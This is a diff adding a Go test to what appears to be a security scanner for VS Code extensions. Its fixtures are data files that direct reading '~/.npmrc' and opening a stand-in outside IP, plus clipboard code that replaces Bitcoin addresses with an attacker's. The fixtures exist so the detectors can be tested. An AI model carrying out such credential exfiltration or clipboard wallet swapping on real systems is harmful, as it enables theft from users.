@@ -1,6 +1,7 @@
 package chain
 
 import (
+	"context"
 	"os"
 	"path/filepath"
 	"strings"
@@ -10,6 +11,7 @@ import (
 	"github.com/ringfence-dev/ringfence/internal/catalog"
 	"github.com/ringfence-dev/ringfence/internal/extension"
 	"github.com/ringfence-dev/ringfence/internal/facts"
+	"github.com/ringfence-dev/ringfence/internal/finding"
 )
 
 // The page shows the table as it is run.
@@ -268,4 +270,49 @@ func TestServersOutOfATable(t *testing.T) {
 		"a registry of the author's", writes(`'https://npm.keeper.invalid'`), writes(`vscode.workspace.getConfiguration('x').get('registry')`),
 		chainUntoldHost,
 	}})
+}
+
+// What the code reads out of a file of data that it names is looked at as what it holds itself.
+func TestFilesOfDataThatTheCodeNames(t *testing.T) {
+	const (
+		steps = `const list = JSON.parse(fs.readFileSync(context.asAbsolutePath('data/steps.json'), 'utf8')); interpret(list);`
+		other = `const list = JSON.parse(fs.readFileSync(context.asAbsolutePath('data/words.json'), 'utf8')); interpret(list);`
+		swap  = `const rules = JSON.parse(fs.readFileSync(context.asAbsolutePath('data/steps.json'), 'utf8'));
+			read$.pipe(map(() => vscode.env.clipboard.readText()), map(cleaner(rules))).subscribe((t) => vscode.env.clipboard.writeText(t));`
+		asks   = `[{ "do": "load", "with": ["~", ".npmrc"] },` + "\n" + `{ "do": "open", "with": ["http://203.0.113.61/board"] }]`
+		local  = `[{ "do": "open", "with": ["http://127.0.0.1/board"] }]`
+		wallet = `[{ "find": "^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", "put": "bc1qexampleexampleexampleexampleexample00" }]`
+		spaces = `[{ "find": "[ \\t]+$", "put": "" }, { "find": "^0x[a-f]+$", "put": "hex" }]`
+	)
+	for _, c := range []struct {
+		name, source, data string
+		check              func(context.Context, check.Input) []finding.Finding
+		line               int
+	}{
+		{"a number that is asked", steps, asks, runChainUntoldHost, 2},
+		{"this machine", steps, local, runChainUntoldHost, 0},
+		{"a file that no code names", other, asks, runChainUntoldHost, 0},
+		{"a wallet's address", swap, wallet, runChainClipboardSwapped, 1},
+		{"spaces at the end", swap, spaces, runChainClipboardSwapped, 0},
+	} {
+		dir := t.TempDir()
+		const manifest = `{"name": "x", "version": "1.0.0", "publisher": "acme", "engines": {"vscode": "^1.90.0"}, "main": "./extension.js"}`
+		if err := os.Mkdir(filepath.Join(dir, "data"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		for name, text := range map[string]string{"package.json": manifest, "extension.js": waysStart(c.source), "data/steps.json": c.data} {
+			if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
+				t.Fatal(err)
+			}
+		}
+		line := 0
+		for _, f := range c.check(t.Context(), gatheredFrom(t, dir)) {
+			if f.Severity >= finding.High && f.Where.File == "data/steps.json" {
+				line = f.Where.Line
+			}
+		}
+		if line != c.line {
+			t.Errorf("%s: a finding in line %d of the data, want %d", c.name, line, c.line)
+		}
+	}
 }
